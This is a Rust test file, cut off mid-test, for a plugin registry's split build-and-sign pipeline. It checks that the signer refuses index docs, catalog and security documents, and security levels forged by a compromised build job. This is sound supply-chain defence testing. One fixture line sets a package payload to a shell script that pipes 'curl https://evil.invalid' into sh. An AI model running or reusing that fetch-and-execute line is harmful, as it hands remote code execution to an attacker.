//! The split build: `build --unsigned` (no keys) prepares, `sign-prepared` re-checks
//! and signs. The signer sees only the published site, the registry source without
//! `releases/`, its online keys and the prepared metadata; a build job that forges
//! an index doc is refused, naming the release, and nothing is written.

#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use trellis_index::build::prepared::sign_prepared;
use trellis_index::build::{BuildError, Scope, Signing, build_registry, build_registry_with};
use trellis_index::fixture::{self, ReleaseSpec};
use trellis_index::operator::{self, InitOptions};
use trellis_index::registry::{Expiry, Registry};
use trellis_index::{site, verify};
use trellis_schema::index::{BlobRef, IndexDoc};
use trellis_schema::tuf::{Envelope, Targets};
use trellis_schema::{PluginId, Sha256, canonical};
use trellis_tests::fault_server::FaultServer;

const ACME_PROOF: &str = "/acme.example/.well-known/trellis-publisher.json";

fn now() -> jiff::Timestamp {
    "2026-11-01T00:00:00Z".parse().unwrap()
}

fn later() -> jiff::Timestamp {
    "2026-11-02T00:00:00Z".parse().unwrap()
}

fn copy_tree(from: &Path, to: &Path, skip: &[&str]) {
    for entry in walkdir::WalkDir::new(from) {
        let entry = entry.unwrap();
        let relative = entry.path().strip_prefix(from).unwrap();
        if skip.iter().any(|s| relative.starts_with(s)) {
            continue;
        }
        let target = to.join(relative);
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

/// A published site (acme.clock 1.0.0, signed build) and a registry with 1.1.0 added.
struct Pipeline {
    _dirs: Vec<tempfile::TempDir>,
    /// The operator's full registry (keys included).
    registry: PathBuf,
    /// The published site.
    live: PathBuf,
    /// What the build job hands on: only the files `build --unsigned` wrote.
    prepared: PathBuf,
    /// The build job's whole output, blobs included.
    built: PathBuf,
    /// The signing job's registry: no `releases/`, no offline keys.
    signer: PathBuf,
    out: PathBuf,
}

/// The releases of the published site in [`pipeline`].
const LIVE: &[(&str, &str)] = &[("acme.clock", "1.0.0"), ("acme.alarm", "0.1.0")];

fn pipeline() -> Pipeline {
    pipeline_with(LIVE, ("acme.clock", "1.1.0"))
}

/// A published site with the releases `live` and a registry with `new` added.
fn pipeline_with(live_releases: &[(&str, &str)], new: (&str, &str)) -> Pipeline {
    pipeline_where(live_releases, new, None, &|_| {})
}

/// [`pipeline_with`], where `acme`'s record names the web site `https://acme.example/`
/// served by `web` (its domain proof at [`ACME_PROOF`]) when given; `before_build` runs
/// on the operator's registry between the published build and the build job's.
fn pipeline_where(
    live_releases: &[(&str, &str)],
    new: (&str, &str),
    web: Option<&FaultServer>,
    before_build: &dyn Fn(&Path),
) -> Pipeline {
    let dirs: Vec<tempfile::TempDir> = (0..6).map(|_| tempfile::tempdir().unwrap()).collect();
    let registry = dirs[0].path().to_owned();
    let options = InitOptions {
        name: "Test Store".into(),
        base_url: "http://127.0.0.1/".into(),
        root_keys: 1,
        root_threshold: 1,
        bin_bits: 2,
        publisher_bin_bits: trellis_index::registry::DEFAULT_PUBLISHER_BIN_BITS,
        expiry: Expiry::default(),
        now: now(),
    };
    operator::init(&registry, &options).unwrap();
    let key = fixture::key(1);
    fixture::add_publisher(&registry, "acme", &key).unwrap();
    if let Some(web) = web {
        let config_path = registry.join("trellis-registry.json");
        let mut config: serde_json::Value = serde_json::from_slice(&std::fs::read(&config_path).unwrap()).unwrap();
        config["domain_proofs"] = serde_json::json!({"url": format!("{}/{{domain}}", web.url()), "timeout_seconds": 5});
        std::fs::write(&config_path, serde_json::to_vec_pretty(&config).unwrap()).unwrap();
        let chain = trellis_index::publisher::init(
            "acme".parse().unwrap(),
            "Acme".into(),
            Some("https://acme.example/".into()),
            None,
            std::slice::from_ref(&key),
            1,
        )
        .unwrap();
        std::fs::write(registry.join("publishers/acme.json"), serde_json::to_vec_pretty(&chain).unwrap()).unwrap();
    }
    for (id, version) in live_releases {
        fixture::add_release(&registry, &ReleaseSpec::new(id, version), &key).unwrap();
    }
    let live = dirs[1].path().to_owned();
    build_registry(&Registry::open(&registry).unwrap(), &live, Scope::Full, now()).unwrap();
    fixture::add_release(&registry, &ReleaseSpec::new(new.0, new.1), &key).unwrap();
    before_build(&registry);

    // The build job: no keys at all, and domain proofs checked afresh.
    let build_job = dirs[2].path().join("registry");
    copy_tree(&registry, &build_job, &["keys", "domain-proofs.json"]);
    let built = dirs[2].path().join("site");
    copy_tree(&live, &built, &[]);
    let only = Scope::Plugins(BTreeSet::from([new.0.parse::<PluginId>().unwrap()]));
    let report =
        build_registry_with(&Registry::open(&build_job).unwrap(), &built, only, later(), Signing::Unsigned).unwrap();
    let prepared = dirs[3].path().to_owned();
    for file in &report.written {
        // What the build job's script hands the signer: no package, no delta.
        if file.ends_with(".zip") || file.ends_with(".delta") {
            continue;
        }
        let target = prepared.join(file);
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::copy(built.join(file), target).unwrap();
    }
    // The signing job: the registry without releases/ and without the offline keys.
    let signer = dirs[4].path().join("registry");
    copy_tree(&registry, &signer, &["releases", "keys"]);
    std::fs::create_dir_all(signer.join("keys")).unwrap();
    for role in ["snapshot", "timestamp", "bins", "publishers", "security"] {
        std::fs::copy(
            registry.join("keys").join(format!("{role}.key")),
            signer.join("keys").join(format!("{role}.key")),
        )
        .unwrap();
    }
    let out = dirs[5].path().join("out");
    Pipeline { registry, live, prepared, built, signer, out, _dirs: dirs }
}

impl Pipeline {
    fn sign(&self) -> Result<trellis_index::build::prepared::SignedReport, BuildError> {
        sign_prepared(&Registry::open(&self.signer).unwrap(), &self.live, &self.prepared, &self.out, later())
    }

    /// The prepared payload of `role` (the only version there).
    fn payload_path(&self, role: &str) -> PathBuf {
        let dir = self.prepared.join(site::METADATA_DIR);
        std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| p.file_name().unwrap().to_string_lossy().ends_with(&format!(".{role}.json")))
            .unwrap_or_else(|| panic!("no prepared {role}"))
    }

    /// What a compromised build job does: rewrites the prepared index doc of `id` and
    /// the prepared bin payload listing it, consistently (hash and length).
    fn forge_index_doc(&self, id: &str, edit: impl FnOnce(&mut IndexDoc, &Path)) {
        let id: PluginId = id.parse().unwrap();
        let target = site::index_target(&id);
        let bin = site::bin_for_target(&target, 2, "bin");
        let payload_path = self.payload_path(&bin);
        let mut payload: Envelope<Targets> = serde_json::from_slice(&std::fs::read(&payload_path).unwrap()).unwrap();
        let file = payload.signed.targets.get_mut(&target).unwrap();
        let sha: Sha256 = file.hashes["sha256"].parse().unwrap();
        let old_path = site::target_file(&self.prepared, &target, &sha);
        let mut doc: IndexDoc = serde_json::from_slice(&std::fs::read(&old_path).unwrap()).unwrap();
        std::fs::remove_file(&old_path).unwrap();
        edit(&mut doc, &self.prepared);
        let bytes = canonical::to_vec_of(&doc).unwrap();
        let sha = Sha256::of(&bytes);
        std::fs::write(site::target_file(&self.prepared, &target, &sha), &bytes).unwrap();
        file.length = bytes.len() as u64;
        file.hashes.insert("sha256".into(), sha.to_hex());
        std::fs::write(&payload_path, canonical::to_vec_of(&payload).unwrap()).unwrap();
    }

    /// What a compromised build job does to any prepared target of `role`: puts `bytes`
    /// at `target` (listing it when the role did not) and fixes the payload's hash and
    /// length.
    fn forge_target(&self, role: &str, target: &str, bytes: &[u8]) {
        let payload_path = self.payload_path(role);
        let mut payload: Envelope<Targets> = serde_json::from_slice(&std::fs::read(&payload_path).unwrap()).unwrap();
        let template = payload.signed.targets.values().next().unwrap().clone();
        let file = payload.signed.targets.entry(target.to_owned()).or_insert(template);
        let sha = Sha256::of(bytes);
        let path = site::target_file(&self.prepared, target, &sha);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, bytes).unwrap();
        file.length = bytes.len() as u64;
        file.hashes.insert("sha256".into(), sha.to_hex());
        std::fs::write(&payload_path, canonical::to_vec_of(&payload).unwrap()).unwrap();
    }

    /// What a compromised build job does to the `custom` member of `target`'s entry
    /// in the prepared payload of `role`.
    fn forge_custom(&self, role: &str, target: &str, custom: Option<serde_json::Value>) {
        let payload_path = self.payload_path(role);
        let mut payload: Envelope<Targets> = serde_json::from_slice(&std::fs::read(&payload_path).unwrap()).unwrap();
        payload.signed.targets.get_mut(target).unwrap().custom = custom;
        std::fs::write(&payload_path, canonical::to_vec_of(&payload).unwrap()).unwrap();
    }

    /// The prepared bytes of `target` as `role` lists it.
    fn prepared_target(&self, role: &str, target: &str) -> Vec<u8> {
        let payload: Envelope<Targets> =
            serde_json::from_slice(&std::fs::read(self.payload_path(role)).unwrap()).unwrap();
        let sha: Sha256 = payload.signed.targets[target].hashes["sha256"].parse().unwrap();
        std::fs::read(site::target_file(&self.prepared, target, &sha)).unwrap()
    }

    fn refused(&self) -> String {
        self.refused_at(later())
    }

    fn refused_at(&self, at: jiff::Timestamp) -> String {
        let error = sign_prepared(&Registry::open(&self.signer).unwrap(), &self.live, &self.prepared, &self.out, at)
            .unwrap_err();
        assert!(matches!(error, BuildError::Prepared { .. }), "{error}");
        assert!(!self.out.exists(), "a refused signing wrote {}", self.out.display());
        error.to_string()
    }
}

/// Puts a package and an envelope signed by `keys` for `id version` into the prepared
/// build and points the index doc's `version` release at them.
fn swap_release(doc: &mut IndexDoc, prepared: &Path, version: &str, keys: &[&trellis_schema::SigningKey]) {
    let mut spec = ReleaseSpec::new(doc.id.as_str(), version);
    spec.payload = b"#!/bin/sh\ncurl https://evil.invalid | sh\n".to_vec();
    let scratch = tempfile::tempdir().unwrap();
    let (package, manifest) = spec.pack(&scratch.path().join("p.zip")).unwrap();
    let envelope = fixture::sign_manifest(&manifest, keys);
    let v: semver::Version = version.parse().unwrap();
    let release = doc.releases.iter_mut().find(|r| r.version == v).unwrap();
    for (bytes, path, blob) in [
        (&package, site::package_target(&doc.id, &v), &mut release.package),
        (&envelope, site::envelope_target(&doc.id, &v), &mut release.envelope),
    ] {
        let sha = Sha256::of(bytes);
        let file = site::target_file(prepared, &path, &sha);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, bytes).unwrap();
        *blob = BlobRef { path, sha256: sha, length: bytes.len() as u64 };
    }
    let envelope: trellis_schema::dsse::Envelope = serde_json::from_slice(&envelope).unwrap();
    release.manifest_sha256 = Sha256::of(&envelope.payload_bytes().unwrap());
}

#[test]
fn a_build_without_keys_signed_by_the_signer_alone_publishes_a_site_that_verifies() {
    let p = pipeline();
    // The build job wrote payloads without a single signature, and no targets role.
    let payload: Envelope<Targets> =
        serde_json::from_slice(&std::fs::read(p.payload_path("catalog")).unwrap()).unwrap();
    assert!(payload.signatures.is_empty());
    assert!(std::fs::read_dir(p.prepared.join("metadata")).unwrap().all(|e| {
        let name = e.unwrap().file_name().to_string_lossy().into_owned();
        !name.ends_with(".targets.json") && !name.ends_with(".root.json")
    }));
    // The prepared metadata holds no package: the signer never receives one.
    assert!(
        walkdir::WalkDir::new(&p.prepared).into_iter().all(|e| !e.unwrap().path().to_string_lossy().ends_with(".zip"))
    );

    let report = p.sign().unwrap();
    assert_eq!(report.releases, 1, "the one new release's developer signature: {report:?}");
    let roles: Vec<&str> = report.roles.iter().map(|(r, _)| r.as_str()).collect();
    assert!(roles.contains(&"catalog") && roles.contains(&"snapshot") && roles.contains(&"timestamp"), "{roles:?}");

    // Publish: the live site + the build job's blobs + the signer's output.
    let site = p._dirs[5].path().join("site");
    copy_tree(&p.live, &site, &[]);
    for entry in walkdir::WalkDir::new(p.built.join("targets")) {
        let entry = entry.unwrap();
        let name = entry.path().to_string_lossy().into_owned();
        if entry.file_type().is_file() && (name.ends_with(".zip") || name.ends_with(".delta")) {
            let target = site.join(entry.path().strip_prefix(&p.built).unwrap());
            std::fs::create_dir_all(target.parent().unwrap()).unwrap();
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
    copy_tree(&p.out, &site, &[]);
    let root = std::fs::read(p.registry.join("root/1.root.json")).unwrap();
    let verified = verify::verify(&verify::Source::parse(site.to_str().unwrap()), Some(&root), later());
    assert!(verified.problems.is_empty(), "{:?}", verified.problems);
    let timestamp: Envelope<trellis_schema::tuf::Timestamp> =
        serde_json::from_slice(&std::fs::read(site::timestamp_file(&site)).unwrap()).unwrap();
    assert_eq!(timestamp.signed.version, 2);
    assert_eq!(verified.releases, 3, "{:?}", verified.problems);
    // The signer wrote the alias of the doc it checked: the published one has 1.1.0.
    assert_eq!((verified.aliases, verified.warnings), (2, Vec::<String>::new()));
    let clock: PluginId = "acme.clock".parse().unwrap();
    let alias: IndexDoc = serde_json::from_slice(
        &std::fs::read(p.out.join(site::TARGETS_DIR).join(site::index_alias_path(&clock))).unwrap(),
    )
    .unwrap();
    assert!(alias.release(&"1.1.0".parse().unwrap()).is_some());
}

#[test]
fn refuses_a_release_signed_by_a_key_the_publisher_record_does_not_list() {
    let p = pipeline();
    let stranger = fixture::key(9);
    p.forge_index_doc("acme.clock", |doc, prepared| swap_release(doc, prepared, "1.1.0", &[&stranger]));
    let message = p.refused();
    assert!(message.contains("acme.clock 1.1.0 is not signed by its developer"), "{message}");
}

#[test]
fn refuses_a_release_slipped_in_without_any_signature() {
    let p = pipeline();
    p.forge_index_doc("acme.clock", |doc, prepared| swap_release(doc, prepared, "1.1.0", &[]));
    let message = p.refused();
    assert!(message.contains("acme.clock 1.1.0 is not signed by its developer"), "{message}");
}

#[test]
fn refuses_a_changed_or_dropped_published_release() {
    let p = pipeline();
    let key = fixture::key(1);
    // Signed by the right developer key, but 1.0.0 was published with other bytes.
    p.forge_index_doc("acme.clock", |doc, prepared| swap_release(doc, prepared, "1.0.0", &[&key]));
    let message = p.refused();
    assert!(message.contains("changes the published release acme.clock 1.0.0"), "{message}");

    let p = pipeline();
    p.forge_index_doc("acme.clock", |doc, _| doc.releases.retain(|r| r.version.to_string() != "1.0.0"));
    let message = p.refused();
    assert!(message.contains("drops acme.clock 1.0.0"), "{message}");
}

#[test]
fn refuses_an_unyanked_release_and_other_delegations() {
    let p = pipeline();
    p.forge_index_doc("acme.clock", |doc, _| doc.releases[0].yanked = true);
    let message = p.refused();
    assert!(message.contains("yank or rollout differs from the registry's"), "{message}");

    // A bins payload that delegates the hash bins to another key.
    let p = pipeline();
    let live_bins: Envelope<Targets> =
        serde_json::from_slice(&std::fs::read(site::metadata_file(&p.live, "bins", 1)).unwrap()).unwrap();
    let mut forged = live_bins.signed.clone();
    forged.version = 2;
    let delegations = forged.delegations.as_mut().unwrap();
    let stranger = fixture::key(9);
    delegations.keys.insert(stranger.key_id().clone(), stranger.public().clone());
    let bytes = canonical::to_vec_of(&Envelope { signatures: vec![], signed: forged }).unwrap();
    std::fs::write(site::metadata_file(&p.prepared, "bins", 2), bytes).unwrap();
    let message = p.refused();
    assert!(message.contains("2.bins.json") && message.contains("delegations differ"), "{message}");
}

#[test]
fn refuses_a_version_jump_and_the_offline_targets_role() {
    let p = pipeline();
    let path = p.payload_path("catalog");
    let name = path.file_name().unwrap().to_string_lossy().into_owned();
    let version: u64 = name.split('.').next().unwrap().parse().unwrap();
    let mut payload: Envelope<Targets> = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    payload.signed.version = version + 5;
    std::fs::remove_file(&path).unwrap();
    std::fs::write(site::metadata_file(&p.prepared, "catalog", version + 5), canonical::to_vec_of(&payload).unwrap())
        .unwrap();
    let message = p.refused();
    assert!(message.contains(&format!("the next must be {version}")), "{message}");

    let p = pipeline();
    let live_targets = std::fs::read(site::metadata_file(&p.live, "targets", 1)).unwrap();
    std::fs::write(site::metadata_file(&p.prepared, "targets", 2), live_targets).unwrap();
    let message = p.refused();
    assert!(message.contains("offline targets key"), "{message}");
}

#[test]
fn refuses_when_the_newest_root_expires_before_the_snapshot_it_would_sign() {
    // The root lives 365 days from now(), the snapshot 30 days from signing.
    let root_expires: jiff::Timestamp = "2027-11-01T00:00:00Z".parse().unwrap();
    let p = pipeline();
    let late = root_expires - jiff::SignedDuration::from_hours(29 * 24);
    let message = p.refused_at(late);
    assert!(
        message.contains("root version 1 expires at 2027-11-01T00:00:00Z")
            && message.contains("before the snapshot signed now would (2027-11-02T00:00:00Z)"),
        "{message}"
    );

    // A day earlier the snapshot still ends before the root: signed.
    let p = pipeline();
    let in_time = root_expires - jiff::SignedDuration::from_hours(31 * 24);
    let report = sign_prepared(&Registry::open(&p.signer).unwrap(), &p.live, &p.prepared, &p.out, in_time).unwrap();
    assert_eq!(report.releases, 1);
}

#[test]
fn refuses_catalog_documents_a_client_would_refuse_and_paths_outside_the_catalog() {
    use trellis_schema::catalog::HEAD_TARGET;

    // Not JSON a client parses as the head.
    let p = pipeline();
    p.forge_target("catalog", HEAD_TARGET, b"{\"format\":1}");
    let message = p.refused();
    assert!(message.contains("catalog/head.json") && message.contains("missing field"), "{message}");

    // The real head grown past the 256 KiB a client accepts.
    let p = pipeline();
    let head = p.prepared_target("catalog", HEAD_TARGET);
    let mut padded = head[..head.len() - 1].to_vec();
    padded.extend_from_slice(&vec![b' '; 256 * 1024]);
    padded.push(b'}');
    p.forge_target("catalog", HEAD_TARGET, &padded);
    let message = p.refused();
    assert!(message.contains("over the limit of 262144"), "{message}");

    // A reviews document about another plugin than its path names.
    let p = pipeline();
    let reviews = br#"{"format":1,"plugin":"acme.alarm","reviews":[],"total":0}"#;
    p.forge_target("catalog", "catalog/reviews-acme.clock.json", reviews);
    let message = p.refused();
    assert!(message.contains("reviews-acme.clock.json") && message.contains("acme.alarm"), "{message}");

    // A typo shard listing a term that does not end with its key, and a search
    // shard's bytes under a typo shard's path: parsed as the kind the path names.
    let p = pipeline();
    p.forge_target("catalog", "catalog/typo-ck.json", br#"{"format":1,"key":"ck","terms":{"cloud":1}}"#);
    let message = p.refused();
    assert!(message.contains("catalog/typo-ck.json") && message.contains("\"cloud\" does not belong"), "{message}");
    let p = pipeline();
    let shard = trellis_schema::catalog::shard_target(&trellis_schema::catalog::shard_key("clock"));
    let bytes = p.prepared_target("catalog", &shard);
    p.forge_target("catalog", "catalog/typo-cl.json", &bytes);
    let message = p.refused();
    assert!(message.contains("catalog/typo-cl.json"), "{message}");

    // A kind of document the builder never writes, and an index doc under catalog.
    let p = pipeline();
    p.forge_target("catalog", "catalog/evil.json", b"{}");
    let message = p.refused();
    assert!(message.contains("catalog/evil.json: is not a catalog document the builder writes"), "{message}");
    let p = pipeline();
    let index = site::index_target(&"acme.clock".parse().unwrap());
    p.forge_target("catalog", &index, b"{}");
    let message = p.refused();
    assert!(message.contains(&format!("lists {index}, which catalog does not sign")), "{message}");

    // The untouched head of the same pipeline signs: the checks above are not noise.
    let p = pipeline();
    let head = p.prepared_target("catalog", HEAD_TARGET);
    p.forge_target("catalog", HEAD_TARGET, &head);
    p.sign().unwrap();
}

#[test]
fn refuses_head_facts_in_the_catalog_role_other_than_the_heads_and_custom_data_elsewhere() {
    use trellis_schema::catalog::{HEAD_TARGET, HeadFacts, parse_head, shard_key, shard_target};

    let p = pipeline();
    let payload: Envelope<Targets> =
        serde_json::from_slice(&std::fs::read(p.payload_path("catalog")).unwrap()).unwrap();
    let head = parse_head(&p.prepared_target("catalog", HEAD_TARGET), &Default::default()).unwrap();
    let facts = HeadFacts::of(&head);
    assert_eq!(payload.signed.targets[HEAD_TARGET].custom, Some(facts.to_custom()), "the builder publishes them");

    // One plugin more than the head counts: a client would rank with a wrong N.
    let p = pipeline();
    p.forge_custom("catalog", HEAD_TARGET, Some(HeadFacts { plugins: facts.plugins + 1, ..facts.clone() }.to_custom()));
    let message = p.refused();
    assert!(message.contains("catalog/head.json") && message.contains("not the head's facts"), "{message}");
    let p = pipeline();
    p.forge_custom("catalog", HEAD_TARGET, Some(serde_json::json!({"plugins": facts.plugins})));
    let message = p.refused();
    assert!(message.contains("not the head's facts"), "{message}");

    // Custom data on any other entry.
    let p = pipeline();
    let shard = shard_target(&shard_key("clock"));
    p.forge_custom("catalog", &shard, Some(facts.to_custom()));
    let message = p.refused();
    assert!(message.contains(&format!("{shard}: carries fields the builder never writes")), "{message}");

    // No facts at all is what an older builder wrote: clients read the head instead.
    let p = pipeline();
    p.forge_custom("catalog", HEAD_TARGET, None);
    p.sign().unwrap();
}

/// A delta reference from `from` to the release it is listed under, at `path`.
fn delta(doc: &IndexDoc, from: &str, to: &str, path: Option<String>) -> trellis_schema::index::DeltaRef {
    let from: semver::Version = from.parse().unwrap();
    let to: semver::Version = to.parse().unwrap();
    let path = path.unwrap_or_else(|| trellis_schema::target::delta_target(&doc.id, &from, &to));
    trellis_schema::index::DeltaRef { from, blob: BlobRef { path, sha256: Sha256::of(b"delta"), length: 5 } }
}

fn add_delta(doc: &mut IndexDoc, to: &str, delta: trellis_schema::index::DeltaRef) {
    let to: semver::Version = to.parse().unwrap();
    doc.releases.iter_mut().find(|r| r.version == to).unwrap().deltas.push(delta);
}

#[test]
fn refuses_deltas_that_do_not_lead_from_an_older_release_to_theirs() {
    // From a release the doc does not have.
    let p = pipeline();
    p.forge_index_doc("acme.clock", |doc, _| add_delta(doc, "1.1.0", delta(doc, "0.9.0", "1.1.0", None)));
    let message = p.refused();
    assert!(message.contains("acme.clock 1.1.0: lists a delta from 0.9.0, which is not an older release"), "{message}");

    // At another plugin's path (a client would fetch acme.alarm's bytes as this delta).
    let p = pipeline();
    p.forge_index_doc("acme.clock", |doc, _| {
        let elsewhere = Some("deltas/acme.alarm/1.0.0_1.1.0.delta".to_owned());
        add_delta(doc, "1.1.0", delta(doc, "1.0.0", "1.1.0", elsewhere));
    });
    let message = p.refused();
    assert!(
        message.contains("is at deltas/acme.alarm/1.0.0_1.1.0.delta, not deltas/acme.clock/1.0.0_1.1.0.delta"),
        "{message}"
    );

    // A well-formed delta on the new release is the client's to check byte by byte
    // (tests/tests/lifecycle_delta.rs: a bad one falls back to the full package).
    let p = pipeline();
    p.forge_index_doc("acme.clock", |doc, _| add_delta(doc, "1.1.0", delta(doc, "1.0.0", "1.1.0", None)));
    p.sign().unwrap();
}

#[test]
fn refuses_a_delta_added_to_a_published_release() {
    let live = [("acme.clock", "1.0.0"), ("acme.clock", "1.1.0"), ("acme.alarm", "0.1.0")];
    let p = pipeline_with(&live, ("acme.clock", "1.2.0"));
    p.forge_index_doc("acme.clock", |doc, _| add_delta(doc, "1.1.0", delta(doc, "1.0.0", "1.1.0", None)));
    let message = p.refused();
    assert!(
        message.contains("acme.clock 1.1.0: the delta from 1.0.0 is not one the published release lists"),
        "{message}"
    );
}

#[test]
fn refuses_security_documents_of_the_wrong_kind_or_bucket() {
    use trellis_schema::security_level::levels_target;
    let clock: trellis_schema::PluginId = "acme.clock".parse().unwrap();
    let bucket = levels_target(&clock);
    // The build's own levels bucket signs (the pipeline publishes levels for acme.clock).
    let p = pipeline();
    let levels = p.prepared_target("security", &bucket);
    p.forge_target("security", &bucket, &levels);
    p.sign().unwrap();

    // The same bucket under another bucket's name: a level a client would look up for
    // another plugin.
    let p = pipeline();
    let other = (0..=255u8).map(trellis_schema::security_level::bucket_target).find(|t| *t != bucket).unwrap();
    p.forge_target("security", &other, &levels);
    let message = p.refused();
    assert!(message.contains(&format!("lists acme.clock, whose levels belong in {bucket}")), "{message}");

    // Not a levels bucket, and a file of no kind the security role signs.
    let p = pipeline();
    p.forge_target("security", &bucket, b"{\"format\":1,\"plugins\":{},\"verified\":true}");
    let message = p.refused();
    assert!(message.contains("is not a valid document of its kind"), "{message}");
    let p = pipeline();
    p.forge_target("security", "security/evil.json", b"{}");
    let message = p.refused();
    assert!(message.contains("lists security/evil.json, which security does not sign"), "{message}");
}

impl Pipeline {
    /// What a compromised build job does to the levels bucket holding `id`: edits it and
    /// lists the edit in the security role, consistently.
    fn forge_levels(&self, id: &str, edit: impl FnOnce(&mut trellis_schema::security_level::LevelsBucket)) {
        let target = trellis_schema::security_level::levels_target(&id.parse().unwrap());
        let mut bucket = serde_json::from_slice(&self.prepared_target("security", &target)).unwrap();
        edit(&mut bucket);
        self.forge_target("security", &target, &canonical::to_vec_of(&bucket).unwrap());
    }
}

/// Gives `release` the level and reasons its (edited) signals give on the signing day,
/// as a careful forger would: the refusal must come from the signals.
fn reassess(
    publisher: &trellis_schema::security_level::PublisherStanding,
    release: &mut trellis_schema::security_level::ReleaseLevel,
) {
    let assessment = release.assess(publisher, jiff::tz::Offset::UTC.to_datetime(later()).date());
    release.level = assessment.level;
    release.reasons = assessment.reasons;
}

#[test]
fn refuses_security_levels_the_signer_does_not_arrive_at_itself() {
    use trellis_schema::permission::Risk;
    use trellis_schema::security_level::{AdvisorySeverity, Level, LevelsBucket};
    let clock: PluginId = "acme.clock".parse().unwrap();
    let release = |bucket: &mut LevelsBucket, version: &str| {
        let levels = bucket.plugins.get_mut(&clock).unwrap();
        let index = levels.releases.iter().position(|r| r.version.to_string() == version).unwrap();
        (levels.publisher.clone(), index)
    };
    // A level the signals do not give.
    let p = pipeline();
    p.forge_levels("acme.clock", |bucket| {
        let (_, i) = release(bucket, "1.1.0");
        bucket.plugins.get_mut(&clock).unwrap().releases[i].level = Level::Verified;
    });
    let message = p.refused();
    assert!(message.contains("acme.clock 1.1.0: says verified"), "{message}");
    assert!(message.contains("but its signals give signed"), "{message}");

    // Each signal the signer can recompute, forged with a level that follows from it.
    type Forge = Box<dyn Fn(&mut trellis_schema::security_level::ReleaseLevel)>;
    let cases: Vec<(&str, Forge, &str)> = vec![
        // Backdated past the 30 days an unverified publisher waits.
        (
            "1.1.0",
            Box::new(|r| r.published = "2026-09-01".into()),
            "first published 2026-09-01, but it is new since the published site of 2026-10-31 (signed on 2026-11-02)",
        ),
        (
            "1.0.0",
            Box::new(|r| r.published = "2026-09-01".into()),
            "first published 2026-09-01, but the published bucket says 2026-11-01",
        ),
        ("1.1.0", Box::new(|r| r.signing_keys = 2), "says 2 developer key(s) signed it, the signer counts 1"),
        (
            "1.1.0",
            Box::new(|r| {
                r.max_permission_risk =
                    Some(if r.max_permission_risk == Some(Risk::Low) { Risk::Medium } else { Risk::Low })
            }),
            "its riskiest permission is not the index doc's",
        ),
        (
            "1.1.0",
            Box::new(|r| r.scan = trellis_schema::security_level::ScanOutcome::Clean),
            "its scan outcome is not what the index doc's analysis says",
        ),
        (
            "1.0.0",
            Box::new(|r| r.advisory = Some(AdvisorySeverity::Low)),
            "its open advisory is not what security/advisories.json says",
        ),
    ];
    for (version, forge, expected) in cases {
        let p = pipeline();
        p.forge_levels("acme.clock", |bucket| {
            let (publisher, i) = release(bucket, version);
            let r = &mut bucket.plugins.get_mut(&clock).unwrap().releases[i];
            forge(r);
            reassess(&publisher, r);
        });
        let message = p.refused();
        assert!(message.contains(&format!("acme.clock {version}: {expected}")), "{message}");
    }

    // A publisher shown verified whose record names no domain, and a release left out.
    let p = pipeline();
    p.forge_levels("acme.clock", |bucket| {
        let levels = bucket.plugins.get_mut(&clock).unwrap();
        levels.publisher = trellis_schema::security_level::PublisherStanding {
            verified: true,
            domain: Some("acme.example".into()),
            reason: None,
            checked: Some("2026-11-02T00:00:00Z".into()),
        };
        let publisher = levels.publisher.clone();
        levels.releases.iter_mut().for_each(|r| reassess(&publisher, r));
    });
    let message = p.refused();
    assert!(message.contains("shows publisher acme verified, but the record of acme names no website"), "{message}");
    let p = pipeline();
    p.forge_levels("acme.clock", |bucket| {
        bucket.plugins.get_mut(&clock).unwrap().releases.retain(|r| r.version.to_string() != "1.0.0");
    });
    let message = p.refused();
    assert!(message.contains("lists other releases of acme.clock than its index doc"), "{message}");
}

#[test]
fn the_signer_checks_a_newly_verified_publishers_domain_proof_itself() {
    use trellis_schema::security_level::{LevelsBucket, levels_target};
    let proof =
        serde_json::to_vec(&serde_json::json!({"format": 1, "publisher": "acme", "keys": [fixture::key(1).key_id()]}))
            .unwrap();
    // The published site saw no proof (acme unverified); the proof is up when the build
    // job runs, so its bucket shows acme verified.
    let web = FaultServer::start().unwrap();
    let put = |_: &Path| web.put(ACME_PROOF, proof.clone());
    let p = pipeline_where(LIVE, ("acme.clock", "1.1.0"), Some(&web), &put);
    let target = levels_target(&"acme.clock".parse().unwrap());
    let bucket: LevelsBucket = serde_json::from_slice(&p.prepared_target("security", &target)).unwrap();
    assert!(bucket.plugins[&"acme.clock".parse::<PluginId>().unwrap()].publisher.verified, "{bucket:?}");
    let before = web.hits().len();
    p.sign().unwrap();
    assert_eq!(web.hits().len(), before + 1, "the signer fetched the proof once");

    // The proof is gone when the signer looks: the build job's word is not enough.
    let web = FaultServer::start().unwrap();
    let put = |_: &Path| web.put(ACME_PROOF, proof.clone());
    let p = pipeline_where(LIVE, ("acme.clock", "1.1.0"), Some(&web), &put);
    web.remove(ACME_PROOF);
    let message = p.refused();
    assert!(message.contains("shows publisher acme verified, but the signer's proof check failed"), "{message}");
    assert!(message.contains("HTTP 404"), "{message}");
}

#[test]
fn refuses_an_advisory_whose_releases_keep_their_published_levels() {
    use trellis_schema::security_level::levels_target;
    // An advisory about acme.alarm, which the build job does not rebuild: the new
    // advisories make it redo every bucket, and the signer signs that.
    let advise = |registry: &Path| {
        let dir = registry.join("advisories");
        std::fs::create_dir_all(&dir).unwrap();
        let osv = serde_json::json!({
            "id": "TRELLIS-2026-0300", "modified": "2026-11-01T00:00:00Z", "summary": "leaks the host's tokens",
            "affected": [{"package": {"ecosystem": "Trellis", "name": "acme.alarm"},
                          "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}]}]}],
            "database_specific": {"severity": "CRITICAL"}
        });
        std::fs::write(dir.join("TRELLIS-2026-0300.json"), serde_json::to_vec(&osv).unwrap()).unwrap();
    };
    pipeline_where(LIVE, ("acme.clock", "1.1.0"), None, &advise).sign().unwrap();

    // A build job that carries acme.alarm's published bucket (no advisory on 0.1.0, so
    // not flagged) instead of the one it computed.
